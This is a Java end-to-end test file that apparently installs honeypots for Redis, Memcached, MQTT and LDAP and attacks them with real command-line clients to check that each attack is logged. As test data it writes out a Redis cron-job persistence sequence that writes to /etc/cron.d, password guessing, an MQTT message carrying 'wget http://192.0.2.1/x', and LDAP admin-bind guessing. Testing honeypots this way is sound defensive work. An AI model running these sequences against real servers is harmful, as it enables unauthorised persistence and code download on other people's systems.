package io.honeybee.app.endtoend.pots;

import static org.assertj.core.api.Assertions.assertThat;

import io.honeybee.app.endtoend.PotsOnManager;
import io.honeybee.app.endtoend.PotsOnManager.Fleet;
import io.honeybee.app.endtoend.PotsOnManager.Installed;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import tools.jackson.databind.JsonNode;

/** Stores, brokers and directories, installed by the manager and attacked by real clients. */
@ExtendWith(PotsOnManager.class)
class StorePotsEndToEndTest {

  @Test
  void redisLoginAndCronJobAreOnTheManager(Fleet fleet) throws Exception {
    Installed pot =
        fleet.install("redis", Map.of("auth", "password", "login", "list:default/foobared"));
    String output =
        Fleet.run(
            """
            AUTH guess
            AUTH foobared
            SET x "\\n* * * * * id\\n"
            CONFIG SET dir /etc/cron.d
            CONFIG SET dbfilename job
            SAVE
            """,
            "redis-cli",
            "-p",
            Integer.toString(pot.port()));
    assertThat(output).contains("WRONGPASS").contains("OK");
    fleet.await(pot, "redis.login.failed", data -> text(data, "password").equals("guess"));
    fleet.await(pot, "redis.login.success", data -> text(data, "password").equals("foobared"));
    fleet.await(
        pot, "redis.command.input", data -> text(data, "input").startsWith("SET x \"\\n* * *"));
    JsonNode attack = fleet.await(pot, "redis.exploit.attempt", data -> true).path("data");
    assertThat(text(attack, "target")).isEqualTo("/etc/cron.d/job");
    assertThat(attack.path("threat_technique_id").toString()).isEqualTo("[\"T1053.003\"]");
    fleet.await(pot, "redis.session.closed", data -> true);
  }

  @Test
  void memcachedCommandsAreOnTheManager(Fleet fleet) throws Exception {
    Installed pot = fleet.install("memcached", Map.of());
    assertThat(Fleet.run("", "memcstat", "--servers=127.0.0.1:" + pot.port()))
        .contains("version: 1.6.18");
    fleet.await(
        pot, "memcached.command.input", data -> text(data, "input").strip().equals("stats"));
    fleet.await(pot, "memcached.session.closed", data -> true);
  }

  @Test
  void mqttLoginAndMessageAreOnTheManager(Fleet fleet) throws Exception {
    Installed pot = fleet.install("mqtt", Map.of("login", "any"));
    Fleet.run(
        "",
        "mosquitto_pub",
        "-p",
        Integer.toString(pot.port()),
        "-u",
        "dev",
        "-P",
        "s3cret",
        "-t",
        "cmnd/x",
        "-m",
        "wget http://192.0.2.1/x");
    fleet.await(pot, "mqtt.login.success", data -> text(data, "password").equals("s3cret"));
    fleet.await(
        pot,
        "mqtt.message.publish",
        data -> text(data, "topic").equals("cmnd/x") && text(data, "data").startsWith("wget "));
    fleet.await(pot, "mqtt.session.closed", data -> true);
  }

  @Test
  void ldapBindAndSearchAreOnTheManager(Fleet fleet) throws Exception {
    Installed pot = fleet.install("ldap", Map.of("login", "never", "domain", "example.org"));
    String url = "ldap://127.0.0.1:" + pot.port();
    Fleet.run("", "ldapwhoami", "-x", "-H", url, "-D", "cn=admin,dc=example,dc=org", "-w", "guess");
    assertThat(Fleet.run("", "ldapsearch", "-x", "-H", url, "-b", "dc=example,dc=org", "(uid=*)"))
        .contains("dn: uid=");
    fleet.await(
        pot,
        "ldap.login.failed",
        data -> text(data, "username").equals("admin") && text(data, "password").equals("guess"));
    fleet.await(pot, "ldap.search.request", data -> text(data, "filter").equals("(uid=*)"));
    fleet.await(pot, "ldap.session.closed", data -> true);
  }

  private static String text(JsonNode data, String field) {
    return data.path(field).asString();
  }
}
